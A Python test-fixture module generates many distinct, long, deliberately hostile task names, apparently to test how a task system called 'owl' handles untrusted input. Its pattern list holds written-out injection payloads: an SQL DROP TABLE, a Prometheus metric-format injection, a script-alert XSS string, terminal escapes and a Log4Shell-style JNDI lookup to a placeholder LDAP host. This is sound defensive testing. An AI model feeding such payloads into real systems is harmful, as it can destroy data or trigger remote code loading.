"""Names of tasks that somebody could give: very many, very long, and full of injections."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice
from typing import Final

LONG: Final = "long." * 2_000

PATTERNS: Final = (
    "proj.tasks.{}",
    "'; DROP TABLE owl_outcome; -- {}",
    'x"}} 1\n# TYPE owl_tasks_total gauge\nowl_tasks_total{{y="{}',
    "задача.学习.🦉.{}",
    "<script>alert({})</script>",
    "{}\\\x1b[2J\ttab\rreturn",
    "%s{}%(name)s${{jndi:ldap://nowhere.invalid}}",
    LONG + "{}",
)


def hostile_names(count: int) -> Iterator[str]:
    """So many distinct names; one in a hundred is 10 kB long.

    Examples
    --------
    >>> len(set(hostile_names(800))), max(map(len, hostile_names(800))) > 10_000
    (800, True)

    """
    return islice((_name(number) for number in range(count)), count)


def _name(number: int) -> str:
    kind = number % len(PATTERNS)
    if PATTERNS[kind].startswith(LONG) and number % 100 > 10:
        kind = 0
    return PATTERNS[kind].format(number)
